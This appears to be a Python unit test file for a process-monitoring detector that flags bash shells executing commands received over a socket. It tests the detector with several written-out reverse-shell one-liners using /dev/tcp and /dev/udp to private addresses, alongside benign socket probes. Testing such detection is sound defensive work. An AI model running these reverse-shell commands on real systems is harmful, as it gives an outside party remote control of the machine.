"""A shell that obeys a connection that it opens itself."""

from __future__ import annotations

import pytest

from tests.unit.indicators.judging import fires, fires_on, seen, taints

pytestmark = pytest.mark.unit

NAME = "socket-command"
BASH = {"exe_path": b"/bin/bash"}


def told(program: bytes) -> list[bytes]:
    return [b"bash", b"-c", program]


def test_a_shell_that_executes_what_comes_in_fires() -> None:
    programs = [
        told(b'exec 3<>/dev/tcp/127.0.0.1/4504; read -r c <&3; eval "$c" >&3'),
        told(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        told(b"exec 5<>/dev/tcp/10.0.0.1/443; sh <&5 >&5 2>&5"),
        told(b"sh -i &> /dev/udp/10.0.0.1/53 0>&1"),
    ]
    checks = [
        told(b"exec 3<>/dev/tcp/localhost/8080; echo -e 'GET / HTTP/1.0' >&3; grep -q 200 <&3"),
        told(b"</dev/tcp/db/5432"),
        told(b"echo > /dev/tcp/db/5432"),
        told(b"eval x"),
    ]
    assert fires_on(NAME, "processes", BASH, "argv", programs + checks) == programs
    assert taints(NAME, seen("processes", BASH | {"argv": programs[0]})) == [True]


def test_another_program_does_not() -> None:
    row = {"argv": told(b"bash -i >& /dev/tcp/1/1"), "exe_path": b"/usr/bin/grep"}
    assert fires(NAME, seen("processes", row, BASH | row | {"errno": 2})) == [False, False]
